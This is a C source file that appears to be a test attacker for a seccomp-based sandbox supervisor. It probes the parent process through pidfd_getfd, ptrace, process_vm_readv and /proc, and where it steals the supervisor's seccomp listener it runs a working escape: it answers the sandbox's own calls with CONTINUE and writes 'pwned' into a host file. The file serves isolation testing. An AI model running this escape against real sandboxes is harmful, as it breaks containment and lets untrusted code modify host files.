/* listener: takes the supervisor's seccomp listener and answers its own calls with CONTINUE.
 *
 * usage: listener TARGET MS
 *
 * The command's parent is the supervisor (fsvirt run). Each way of reaching into it that works
 * prints a line starting with "LEAK": pidfd_getfd of each of its descriptors 0..127 (a seccomp
 * listener among them is named as such), PTRACE_SEIZE, process_vm_readv, open of
 * /proc/PPID/mem and opendir of /proc/PPID/fd. Then, with a stolen listener, the end-to-end
 * attack: one thread receives notifications on it and answers each with
 * SECCOMP_USER_NOTIF_FLAG_CONTINUE while another opens TARGET, a shared file, O_WRONLY and writes:
 * an open this thread answers is the kernel's, on the host. Stops after MS milliseconds, MAX_CALLS
 * opens, or when TARGET changed on the host. Exit status 0, 2 on a setup failure. */
#include "attack.h"
#include <dirent.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>

static int listener = -1;
static atomic_long answered;

static int is_listener(int fd) {
	__u64 id = 0; /* no notification has id 0 pending: a listener says ENOENT */
	return ioctl(fd, SECCOMP_IOCTL_NOTIF_ID_VALID, &id) < 0 && errno == ENOENT;
}

static void *answerer(void *arg) {
	(void)arg;
	for (;;) {
		struct pollfd p = {.fd = listener, .events = POLLIN};
		if (poll(&p, 1, 50) <= 0)
			continue;
		struct seccomp_notif req;
		memset(&req, 0, sizeof req);
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
			continue; /* the supervisor took it first */
		/* Counted first: once answered, the caller may look before this thread runs again. */
		atomic_fetch_add(&answered, 1);
		struct seccomp_notif_resp resp = {.id = req.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp) < 0)
			atomic_fetch_sub(&answered, 1);
	}
	return NULL;
}

/* first_mapping returns the start of the first mapping in /proc/PID/maps, or a guess. */
static unsigned long first_mapping(pid_t pid) {
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *f = fopen(path, "re");
	unsigned long addr = 0x400000;
	if (f) {
		if (fscanf(f, "%lx", &addr) != 1)
			addr = 0x400000;
		fclose(f);
	}
	return addr;
}

int main(int argc, char **argv) {
	if (argc != 3) {
		fprintf(stderr, "usage: listener TARGET MS\n");
		return 2;
	}
	pid_t ppid = getppid();
	char path[64];

	int pidfd = syscall(SYS_pidfd_open, ppid, 0);
	if (pidfd < 0)
		printf("pidfd_open(%d): %s\n", ppid, strerror(errno));
	int stolen = 0;
	for (int fd = 0; pidfd >= 0 && fd < 128; fd++) {
		int got = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
		if (got < 0)
			continue;
		stolen++;
		if (is_listener(got) && listener < 0) {
			listener = got;
			printf("LEAK pidfd_getfd: the supervisor's fd %d, a seccomp listener\n", fd);
		} else {
			close(got);
		}
	}
	if (stolen > 0)
		printf("LEAK pidfd_getfd: %d of the supervisor's descriptors\n", stolen);

	if (ptrace(PTRACE_SEIZE, ppid, 0, 0) == 0) {
		printf("LEAK ptrace: PTRACE_SEIZE of the supervisor\n");
		if (ptrace(PTRACE_INTERRUPT, ppid, 0, 0) == 0) {
			int st;
			for (int i = 0; i < 1000 && waitpid(ppid, &st, __WALL | WNOHANG) == 0; i++)
				usleep(1000);
		}
		ptrace(PTRACE_DETACH, ppid, 0, 0);
	}

	char byte;
	struct iovec local = {&byte, 1}, remote = {(void *)first_mapping(ppid), 1};
	/* EFAULT means the permission check passed. */
	if (process_vm_readv(ppid, &local, 1, &remote, 1, 0) == 1 || errno == EFAULT)
		printf("LEAK process_vm_readv: the supervisor's memory\n");

	snprintf(path, sizeof path, "/proc/%d/mem", ppid);
	int mem = open(path, O_RDONLY | O_CLOEXEC);
	if (mem >= 0) {
		printf("LEAK open %s\n", path);
		close(mem);
	}
	snprintf(path, sizeof path, "/proc/%d/fd", ppid);
	DIR *d = opendir(path);
	if (d) {
		int n = 0;
		while (readdir(d))
			n++;
		printf("LEAK opendir %s: %d entries\n", path, n - 2);
		closedir(d);
	}

	if (listener < 0) {
		printf("no listener stolen: no end-to-end attack\n");
		return 0;
	}
	struct budget b = budget_from(argv[2]);
	struct watch w = {0};
	watch_add(&w, argv[1]);
	pthread_t th;
	if (pthread_create(&th, NULL, answerer, NULL) != 0)
		die("pthread_create");
	struct tally t = {0};
	const char *landed = NULL;
	long calls = 0;
	while (!landed && budget_left(&b, calls)) {
		int fd = open(argv[1], O_WRONLY | O_CLOEXEC);
		tally_add(&t, fd);
		if (fd >= 0) {
			write(fd, "pwned\n", 6);
			close(fd);
		}
		calls++;
		landed = watch_changed(&w);
	}
	long n = atomic_load(&answered);
	if (n > 0)
		printf("LEAK listener: answered %ld of the view's notifications with CONTINUE\n", n);
	report("listener", landed, calls, &b);
	tally_print(&t);
	return 0; /* exit_group ends the answerer, blocked or not */
}
